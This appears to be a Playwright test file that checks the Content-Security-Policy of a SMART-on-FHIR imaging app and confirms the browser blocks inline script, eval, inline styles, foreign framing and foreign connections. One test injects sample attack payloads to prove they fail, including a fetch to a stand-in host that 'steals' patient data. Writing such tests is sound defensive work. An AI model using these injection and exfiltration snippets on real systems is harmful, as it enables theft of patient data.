/**
 * The Content-Security-Policy the app is served with: what the header says, that the built pages need nothing it
 * forbids, and that the browser enforces it in the running app (inline script, eval, foreign connections, inline
 * styles, foreign framing). Every other spec runs under the same header, and the guard in fixtures.ts fails any
 * test that triggers a violation.
 */
import { SEED_PATIENTS } from './sandbox/seed';
import { APP_ORIGIN, ehrLaunch, expect, expectBanner, SANDBOX_URL, test } from './fixtures';
import { startOwnSandbox } from './security-helpers';

const ada = SEED_PATIENTS[0]!;
const EMPTY_STYLE_HASH = "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='";

function directives(header: string): Map<string, string[]> {
  return new Map(
    header
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name as string, values]),
  );
}

test('the app pages are served with a strict CSP and contain no inline script or style', async ({ request }) => {
  for (const path of ['/', '/launch.html']) {
    const response = await request.get(`${APP_ORIGIN}${path}`);
    expect(response.status()).toBe(200);
    const headers = response.headers();
    const csp = directives(headers['content-security-policy'] ?? '');
    expect(csp.get('default-src')).toEqual(["'none'"]);
    expect(csp.get('script-src')).toEqual(["'self'"]);
    expect(csp.get('style-src')).toEqual(["'self'", EMPTY_STYLE_HASH]);
    expect(csp.get('connect-src')).toEqual(["'self'", 'http://127.0.0.1:*', 'http://127.0.0.1:8042', SANDBOX_URL]);
    expect(csp.get('frame-ancestors')).toEqual([SANDBOX_URL]);
    expect(csp.get('worker-src')).toEqual(["'self'"]);
    for (const name of ['object-src', 'base-uri', 'form-action', 'frame-src'])
      expect(csp.get(name)).toEqual(["'none'"]);
    expect(headers['content-security-policy']).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes|\*\s*;|data:/);
    expect(headers['referrer-policy']).toBe('no-referrer');
    expect(headers['x-content-type-options']).toBe('nosniff');

    const html = await response.text();
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, body] of scripts) {
      expect(attributes, `a script of ${path} comes from a file`).toMatch(/\ssrc="\/assets\//);
      expect(body?.trim()).toBe('');
    }
    expect(html).not.toMatch(/<style\b|\sstyle=|\son[a-z]+=|javascript:/i);
  }
});

test.describe('the browser enforces the policy in the running app', () => {
  // These tests provoke violations on purpose and assert them; the guard would otherwise fail on them.
  test.use({ allowCspViolations: true });

  test('inline script, eval, inline handlers, inline styles and foreign connections are blocked', async ({
    page,
    guard,
  }) => {
    const app = await ehrLaunch(page, ada);
    await expectBanner(app, ada);
    expect(guard.cspViolations, 'violations during a normal launch').toEqual([]);

    const outcome = await app.evaluate(async () => {
      const results: Record<string, string> = {};
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = "inline script"';
      document.body.append(script);
      const handler = document.createElement('div');
      handler.setAttribute('onclick', 'window.__pwned = "inline handler"');
      document.body.append(handler);
      handler.click();
      // Code run by the test itself may eval (DevTools is exempt); a task the page runs later may not.
      const later = (run: () => unknown) =>
        new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              resolve(String(run()));
            } catch (err) {
              resolve((err as Error).name);
            }
          }),
        );
      results.eval = await later(() => eval('1 + 1'));
      results.function = await later(() => new Function('return 2')());
      try {
        await fetch('https://evil.example/steal?data=patient');
        results.fetch = 'sent';
      } catch (err) {
        results.fetch = (err as Error).name;
      }
      const style = document.createElement('style');
      style.textContent = 'body { visibility: hidden !important; }';
      document.head.append(style);
      await new Promise((resolve) => requestAnimationFrame(resolve));
      results.visibility = getComputedStyle(document.body).visibility;
      results.pwned = String((window as unknown as { __pwned?: unknown }).__pwned);
      return results;
    });
    expect(outcome).toEqual({
      eval: 'EvalError',
      function: 'EvalError',
      fetch: 'TypeError',
      visibility: 'visible',
      pwned: 'undefined',
    });
    await expect.poll(() => guard.cspViolations.join('\n')).toContain('script-src-elem blocked');
    const report = guard.cspViolations.join('\n');
    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src', 'style-src-elem']) {
      expect(report, `a ${directive} violation was reported`).toContain(`${directive} blocked`);
    }
    expect(report).toContain('https://evil.example/steal');
  });

  test('the styles MUI inserts are allowed: the app is styled, and nothing else was reported', async ({
    page,
    guard,
  }) => {
    const app = await ehrLaunch(page, ada);
    await expectBanner(app, ada);
    await app.getByRole('link', { name: 'New study' }).click();
    await expect(app.getByRole('heading', { name: 'New imaging study' })).toBeVisible();
    // The app bar's colour is the theme's primary #0b5394, which only Emotion's inserted rules can give it.
    await expect(app.getByRole('banner')).toHaveCSS('background-color', 'rgb(11, 83, 148)');
    const emotion = await app.evaluate(() =>
      [...document.querySelectorAll('style[data-emotion]')].map((s) => ({
        text: s.textContent ?? '',
        rules: (s as HTMLStyleElement).sheet?.cssRules.length ?? 0,
      })),
    );
    expect(emotion.length).toBeGreaterThan(0);
    for (const sheet of emotion) expect(sheet.text, 'inline style text (only the empty hash is allowed)').toBe('');
    expect(emotion.reduce((n, s) => n + s.rules, 0)).toBeGreaterThan(50);
    expect(guard.cspViolations).toEqual([]);
  });

  test('an EHR on an origin the deployment did not list cannot embed the app', async ({ page, guard }) => {
    // A second sandbox EHR, on another port: its FHIR server is a trusted issuer, but its origin is no frame ancestor.
    const other = await startOwnSandbox();
    try {
      await ehrLaunch(page, ada, { mode: 'iframe', ehrUrl: `${other.sandbox.url}/` });
      await expect(page.getByRole('banner')).toContainText(ada.name);
      await expect.poll(() => guard.cspViolations.join('\n')).toContain('frame-ancestors');
      await expect(page.frameLocator('iframe[title="SMART app"]').getByRole('heading')).toHaveCount(0);
    } finally {
      await other.close();
    }
  });
});
